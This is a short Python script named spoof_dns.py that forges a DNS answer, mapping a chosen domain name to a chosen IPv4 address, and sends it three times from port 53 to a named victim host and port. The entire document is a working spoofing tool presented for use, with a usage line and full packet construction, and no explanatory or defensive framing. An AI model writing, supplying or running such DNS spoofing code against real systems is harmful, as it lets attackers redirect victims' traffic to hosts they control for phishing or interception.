#!/usr/bin/env python3
"""Sends a forged DNS answer (NAME -> ADDR) from port 53 to VICTIM:PORT.
Usage: spoof_dns.py VICTIM PORT NAME ADDR"""
import socket
import struct
import sys

victim, port, name, addr = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
header = struct.pack("!HHHHHH", 0x1234, 0x8180, 1, 1, 0, 0)
question = qname + struct.pack("!HH", 1, 1)
answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(addr)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 53))
for _ in range(3):
    s.sendto(header + question + answer, (victim, port))
